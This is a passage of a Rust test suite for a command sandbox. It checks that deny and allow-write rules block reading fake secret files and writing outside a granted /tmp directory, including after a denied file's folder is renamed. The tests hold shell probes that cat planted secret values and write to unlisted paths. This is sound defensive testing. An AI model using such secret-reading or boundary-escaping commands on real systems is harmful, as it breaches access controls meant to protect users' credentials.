        std::fs::set_permissions(p, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    }
    std::fs::set_permissions(b.join("s"), std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    let (ts, bs) = (t.display().to_string(), b.display().to_string());
    assert_blocked_but_escapes_bare(&w, &["--allow-read", &ts, "--deny", &bs], &format!("cat {}/s", sh_quote(&b)), |o| o.stdout.contains("TMP-DENIED-SECRET"));
    // Below Full, /tmp is the host's and writable by design (the tmp-private row says so).
    if suite_level(&w) != "full" {
        return;
    }
    let planted = std::path::PathBuf::from(format!("/tmp/lg-planted-{}", std::process::id()));
    let _ = std::fs::remove_file(&planted);
    let out = t.join("out").display().to_string();
    let snippet = format!("echo x > {}; echo y > {}/ok", sh_quote(&planted), sh_quote(t.join("out")));
    assert_blocked_but_escapes_bare(&w, &["--allow-write", &out], &snippet, |_| planted.exists());
    let _ = std::fs::remove_file(&planted);
    // The grant itself is the host's.
    let _ = std::fs::remove_file(t.join("out/ok"));
    let sb = w.sandboxed_with(&["--allow-write", &out], &snippet);
    assert!(t.join("out/ok").exists() && !planted.exists(), "the granted directory under /tmp was not written{}", sb.describe());
}

/// Issue 20 item 4: a denied file whose ancestor is renamed (`mv base moved`) stays denied at its
/// new place for the next run: each run records the denied paths' inodes, and the next one finds
/// the file by its inode, denies it there and says so. Bare, the moved file is readable.
#[test]
fn denied_file_moved_with_an_ancestor_stays_denied() {
    let w = World::new();
    fs::create_dir_all(w.ws.join("base/d")).unwrap();
    fs::write(w.ws.join("base/d/s"), "API_TOKEN=moved-deny-secret-5e1f\n").unwrap();
    let deny = w.ws.join("base/d/s").to_string_lossy().into_owned();
    // A first run under the rule records the file.
    let first = w.sandboxed_with(&["--deny", &deny], "true");
    assert_eq!(first.code(), Some(0), "the recording run failed{}", first.describe());
    // Then the file moves with its parent (a command that could write there, or anything else).
    fs::rename(w.ws.join("base"), w.ws.join("moved")).unwrap();
    let (sb, _) = assert_blocked_but_escapes_bare(&w, &["--deny", &deny], "cat moved/d/s", |o| o.stdout.contains("moved-deny-secret-5e1f"));
    assert!(
        sb.stderr.contains("was moved since a previous run") && sb.stderr.contains("moved/d/s"),
        "the run does not say where the denied file went{}",
        sb.describe()
    );
}
